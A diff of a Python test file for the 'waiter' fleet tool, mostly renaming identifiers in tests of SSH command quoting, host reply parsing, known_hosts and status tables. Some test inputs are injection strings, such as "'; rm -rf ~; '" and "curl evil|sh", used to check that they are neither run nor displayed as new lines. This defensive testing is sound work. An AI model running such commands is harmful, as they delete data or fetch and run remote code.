@@ -1,4 +1,4 @@
-"""What the fleet says and understands, without a network: commands, replies, known_hosts, parcels, the roster."""
+"""What the fleet says and understands, without a network: commands, replies, known_hosts, zipapps, fleet status."""
 
 from __future__ import annotations
 
@@ -18,8 +18,8 @@ from waiter.errors import UsageError
 from waiter.fleet import fetch, protocol, replies, status, tables, zipapp
 from waiter.fleet.actions import Report, spread
 from waiter.fleet.doctor import findings_of
-from waiter.fleet.inventory import Host, Selection, parsed_host, selected, with_unique_names
-from waiter.fleet.problems import Finding, HostError, Trouble, mend
+from waiter.fleet.inventory import Host, HostSelection, parsed_host, select_hosts, with_unique_names
+from waiter.fleet.problems import Finding, HostError, Problem, fix
 from waiter.fleet.ssh import config as ssh_config
 from waiter.fleet.ssh import known_hosts
 from waiter.orders import Shift, Vitals
@@ -45,7 +45,7 @@ def test_words_reach_the_host_as_they_are(tmp_path: Path) -> None:
     )
     words = ["a b", "$(touch x)", "'; rm -rf ~; '", '"', "\\", "*", "", "ü\n"]
 
-    said = said_by_a_host(protocol.command("echo.pyz", words), tmp_path)
+    said = said_by_a_host(protocol.host_command("echo.pyz", words), tmp_path)
 
     assert json.loads(said.removeprefix(protocol.MARK)) == words
     assert sorted(file.name for file in tmp_path.iterdir()) == [".waiter"]
@@ -53,13 +53,15 @@ def test_words_reach_the_host_as_they_are(tmp_path: Path) -> None:
 
 def test_no_login_shell_reads_more_into_a_command_than_sh_does() -> None:
     """csh knows newlines and `!` even in quotes, fish backslashes."""
-    said = protocol.command("waiter-1.pyz", ["stop", "a\nb\\c!d"], placed=[protocol.Placed("a\\b", "c!d", "e\nf")])
+    said = protocol.host_command(
+        "waiter-1.pyz", ["stop", "a\nb\\c!d"], uploaded=[protocol.UploadedFile("a\\b", "c!d", "e\nf")]
+    )
 
     assert set("\n!\\").isdisjoint(said)
 
 
 def test_a_host_names_what_must_be_sent_and_makes_its_folder_private(tmp_path: Path) -> None:
-    said = said_by_a_host(protocol.command("waiter-1.pyz", ["look"], needs=["bundles/2"]), tmp_path)
+    said = said_by_a_host(protocol.host_command("waiter-1.pyz", ["look"], needs=["bundles/2"]), tmp_path)
 
     reply = protocol.read_reply(said.encode(), b"", 0)
     assert reply["missing"] == ["waiter-1.pyz", "bundles/2"]
@@ -70,7 +72,7 @@ def test_any_version_will_do_where_that_is_enough(tmp_path: Path) -> None:
     (tmp_path / ".waiter").mkdir()
     (tmp_path / ".waiter/waiter-old.pyz").write_text('print(\'waiter-reply {"version": "old"}\')')
 
-    said = said_by_a_host(protocol.command("waiter-new.pyz", ["look"], is_any=True), tmp_path)
+    said = said_by_a_host(protocol.host_command("waiter-new.pyz", ["look"], is_any=True), tmp_path)
 
     assert protocol.read_reply(said.encode(), b"", 0) == {"version": "old"}
 
@@ -87,25 +89,25 @@ def test_a_refusal_is_the_last_line_of_what_a_host_said() -> None:
 
 
 @pytest.mark.parametrize(
-    ("said", "trouble"),
+    ("said", "problem"),
     [
-        (b'Please login as the user "ubuntu" rather than the user "root".', Trouble.WRONG_USER),
-        (b"mkdir: No space left on device", Trouble.DISK),
-        (b"sh: syntax error", Trouble.NO_REPLY),
-        (b'waiter-reply {"trouble": "unsafe folder", "error": "a symlink"}', Trouble.UNSAFE_FOLDER),
-        (b'waiter-reply {"outcome": "failed", "error": "x", "error_type": "KitchenUnreachable"}', Trouble.KITCHEN),
-        (b'waiter-reply {"outcome": "failed", "error": "x", "errno": 28}', Trouble.DISK),
-        (b'waiter-reply {"outcome": "failed", "error": "x", "errno": 30}', Trouble.NOT_WRITABLE),
-        (b'waiter-reply {"outcome": "not started", "error": "x"}', Trouble.NOT_STARTED),
-        (b'waiter-reply {"outcome": "failed", "error": "x"}', Trouble.FAILED),
-        (b"waiter-reply {", Trouble.UNEXPECTED),
+        (b'Please login as the user "ubuntu" rather than the user "root".', Problem.WRONG_USER),
+        (b"mkdir: No space left on device", Problem.DISK),
+        (b"sh: syntax error", Problem.NO_REPLY),
+        (b'waiter-reply {"trouble": "unsafe folder", "error": "a symlink"}', Problem.UNSAFE_FOLDER),
+        (b'waiter-reply {"outcome": "failed", "error": "x", "error_type": "KitchenUnreachable"}', Problem.KITCHEN),
+        (b'waiter-reply {"outcome": "failed", "error": "x", "errno": 28}', Problem.DISK),
+        (b'waiter-reply {"outcome": "failed", "error": "x", "errno": 30}', Problem.NOT_WRITABLE),
+        (b'waiter-reply {"outcome": "not started", "error": "x"}', Problem.NOT_STARTED),
+        (b'waiter-reply {"outcome": "failed", "error": "x"}', Problem.FAILED),
+        (b"waiter-reply {", Problem.UNEXPECTED),
     ],
 )
-def test_what_went_wrong_on_a_host_has_a_name(said: bytes, trouble: Trouble) -> None:
+def test_what_went_wrong_on_a_host_has_a_name(said: bytes, problem: Problem) -> None:
     with pytest.raises(HostError) as caught:
         protocol.read_reply(said, b"", 1)
 
-    assert caught.value.trouble is trouble
+    assert caught.value.problem is problem
 
 
 @pytest.mark.parametrize(
@@ -135,11 +137,11 @@ def test_what_went_wrong_on_a_host_has_a_name(said: bytes, trouble: Trouble) -> 
         '{"outcome": "failed", "error": "x", "errno": "y"}',
     ],
 )
-def test_an_odd_reply_is_that_hosts_trouble(said: str) -> None:
+def test_an_odd_reply_is_that_hosts_problem(said: str) -> None:
     with pytest.raises(HostError, match="makes no sense") as caught:
         protocol.read_reply(f"waiter-reply {said}\n".encode(), b"", 0)
 
-    assert caught.value.trouble is Trouble.UNEXPECTED
+    assert caught.value.problem is Problem.UNEXPECTED
     assert len(caught.value.detail) < 200
 
 
@@ -150,19 +152,22 @@ def test_a_reply_that_says_little_can_be_shown(outcome: str, facts: dict[str, ob
     report = Report(ANNA, outcome, protocol.read_reply(f"waiter-reply {said}".encode(), b"", 0))
 
     assert tables.report_rows([report])[1][0][:2] == ["anna", outcome]
-    assert tables.roster_rows(status.roster([report], [], now=100.0), 100.0)[1][0][0] == "anna"
+    assert tables.status_rows(status.fleet_status([report], [], now=100.0), 100.0)[1][0][0] == "anna"
     assert "extra" not in report.facts
 
 
 def test_what_a_host_says_is_no_line_to_run_and_no_line_of_ours() -> None:
     greeting = 'Please login as the user "x; curl evil|sh" rather than the user "root".'
-    assert protocol.no_reply(greeting, 1).trouble is Trouble.NO_REPLY
+    assert protocol.no_reply(greeting, 1).problem is Problem.NO_REPLY
     right = protocol.no_reply('Please login as the user "ec2-user" rather than the user "root".', 1)
-    assert right.mend == "--user ec2-user"
+    assert right.fix == "--user ec2-user"
     left = {"left": {"error": "full\nhint: curl evil | sh"}, "words": ["a\nhint: x"]}
-    report = Report(ANNA, "not running", left, (Finding(Trouble.FAILED, "a\nhint: b", "waiter fleet logs"),))
+    report = Report(ANNA, "not running", left, (Finding(Problem.FAILED, "a\nhint: b", "waiter fleet logs"),))
 
-    shown = [*tables.mends([report]), *tables.roster_notes([status.Row("anna", "x", notes=("a\nhint: b",))])]
+    shown = [
+        *tables.problem_lines([report]),
+        *tables.status_notes([status.StatusRow("anna", "x", notes=("a\nhint: b",))]),
+    ]
 
     assert "\n" not in "".join(shown)
     assert all("\n" not in cell for row in tables.report_rows([report])[1] for cell in row)
@@ -188,13 +193,13 @@ def test_a_folder_that_never_ends_ends_the_fetch_of_that_host(monkeypatch: pytes
 
     for mode in (stat.S_IFDIR, stat.S_IFREG):
         with pytest.raises(HostError, match="more"):
-            fetch.fitting(EndlessFolder(mode), "", "*", fetch.Haul())
+            fetch.fitting(EndlessFolder(mode), "", "*", fetch.FetchCounters())
     with pytest.raises(HostError, match="more"):
-        list(fetch.below(EndlessFolder(stat.S_IFDIR), "out", fetch.Haul()))
+        list(fetch.below(EndlessFolder(stat.S_IFDIR), "out", fetch.FetchCounters()))
 
 
-def test_every_trouble_has_a_line_that_mends_it() -> None:
-    assert all(mend(trouble, ANNA) for trouble in Trouble)
+def test_every_problem_has_a_line_that_fixes_it() -> None:
+    assert all(fix(problem, ANNA) for problem in Problem)
 
 
 def test_a_bug_on_one_host_does_not_hide_the_others() -> None:
@@ -233,10 +238,10 @@ def test_no_more_hosts_are_visited_at_a_time_than_asked_for() -> None:
 def test_doctor_names_a_disk_that_is_nearly_full_and_what_is_older() -> None:
     facts = {"outcome": "running", "disk_free": 100_000_000, "now": 50.0, "parcel": "old", "settings": "other"}
 
-    found = findings_of(ANNA, facts, 49.0, 51.0, parcel="new", settings="mine")
+    found = findings_of(ANNA, facts, 49.0, 51.0, zipapp="new", settings="mine")
 
-    assert [each.trouble for each in found] == [Trouble.DISK, Trouble.OLD_WAITER, Trouble.OLD_SCRIPT]
-    assert [each.mend for each in found] == ["ssh 10.0.0.1 'df -h ~'", "waiter fleet restart", "waiter fleet restart"]
+    assert [each.problem for each in found] == [Problem.DISK, Problem.OLD_WAITER, Problem.OLD_SCRIPT]
+    assert [each.fix for each in found] == ["ssh 10.0.0.1 'df -h ~'", "waiter fleet restart", "waiter fleet restart"]
 
 
 # known_hosts.
@@ -325,7 +330,7 @@ def test_a_hosts_file_has_comments_and_each_host_counts_once(tmp_path: Path) -> 
     file = tmp_path / "hosts"
     file.write_text("b # the second\n\n# none\na\n")
 
-    found = selected(Selection(hosts=("a,c",), hosts_file=file, user="me"))
+    found = select_hosts(HostSelection(hosts=("a,c",), hosts_file=file, user="me"))
 
     assert [(host.name, host.user) for host in found] == [("a", "me"), ("b", "me"), ("c", "me")]
 
@@ -335,7 +340,7 @@ def test_a_line_of_a_hosts_file_that_is_no_host_is_named(tmp_path: Path) -> None
     file.write_text("\ufeffa\r\n# none\nb c\n")
 
     with pytest.raises(UsageError, match=f"^{file}, line 3: b c: not a host"):
-        selected(Selection(hosts_file=file))
+        select_hosts(HostSelection(hosts_file=file))
 
 
 def test_instances_of_one_name_are_told_apart() -> None:
@@ -369,14 +374,14 @@ def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     ],
 )
 def test_a_script_goes_along_and_a_program_does_not(here: Path, line: str, words: tuple[str], files: list[str]) -> None:
-    packed = zipapp.packed(line, shell=False)
+    packed = zipapp.pack_command(line, shell=False)
 
     assert packed.words == words
     assert list(packed.bundle.files if packed.bundle else {}) == files
 
 
 def test_a_shell_line_stays_one_line(here: Path) -> None:
-    assert zipapp.packed("../outer.sh | wc -l", shell=True).words == ("./outer.sh | wc -l",)
+    assert zipapp.pack_command("../outer.sh | wc -l", shell=True).words == ("./outer.sh | wc -l",)
 
 
 @pytest.mark.parametrize("line", ["./missing.sh", "'", "", "./work.txt"])
@@ -384,7 +389,7 @@ def test_a_command_that_cannot_be_sent_is_refused_here(here: Path, line: str) ->
     (here / "work.txt").write_text("not executable")
 
     with pytest.raises(UsageError):
-        zipapp.packed(line, shell=False)
+        zipapp.pack_command(line, shell=False)
 
 
 def test_two_files_of_one_name_are_refused(here: Path) -> None:
@@ -392,12 +397,12 @@ def test_two_files_of_one_name_are_refused(here: Path) -> None:
     other.write_text("")
 
     with pytest.raises(UsageError, match="rename one"):
-        zipapp.packed("./crunch.sh", shell=False, files=[other])
+        zipapp.pack_command("./crunch.sh", shell=False, files=[other])
 
 
 def test_the_digest_follows_contents_names_and_modes_only(here: Path) -> None:
     def digest() -> str:
-        bundle = zipapp.packed("./crunch.sh", shell=False).bundle
+        bundle = zipapp.pack_command("./crunch.sh", shell=False).bundle
         assert bundle is not None
         return bundle.digest
 
@@ -430,13 +435,13 @@ def seen(outcome: str = "running", token: str | None = "t") -> Report:
         (seen("not running"), [shift("t")], ["not running", "gone"], "SSH sees no such process"),
         (seen(), [shift("t"), shift("u", "elsewhere")], ["running", "elsewhere"], ""),
         (
-            Report(ANNA, "timeout", {}, (Finding(Trouble.TIMEOUT, "silent", ""),)),
+            Report(ANNA, "timeout", {}, (Finding(Problem.TIMEOUT, "silent", ""),)),
             [shift("t")],
             ["timeout"],
             "the kitchen heard from it 1 s ago",
         ),
         (
-            Report(AT_EC2, "timeout", {}, (Finding(Trouble.TIMEOUT, "silent", ""),)),
+            Report(AT_EC2, "timeout", {}, (Finding(Problem.TIMEOUT, "silent", ""),)),
             [shift("t", "ip-10-0-0-1"), shift("u", "ip-10-0-0-2")],
             ["timeout", "elsewhere"],
             "the kitchen heard from it 1 s ago",
@@ -446,7 +451,7 @@ def seen(outcome: str = "running", token: str | None = "t") -> Report:
 def test_status_says_where_ssh_and_the_kitchen_disagree(
     report: Report, shifts: list[Shift], states: list[str], note: str
 ) -> None:
-    rows = status.roster([report], shifts, now=100.0)
+    rows = status.fleet_status([report], shifts, now=100.0)
 
     assert [row.state for row in rows] == states
     notes = " ".join(word for row in rows for word in row.notes)
@@ -454,6 +459,6 @@ def test_status_says_where_ssh_and_the_kitchen_disagree(
 
 
 def test_without_a_kitchen_nothing_is_called_a_disagreement() -> None:
-    (row,) = status.roster([seen()], None, now=100.0)
+    (row,) = status.fleet_status([seen()], None, now=100.0)
 
     assert (row.state, row.notes, row.slots) == ("running", (), None)
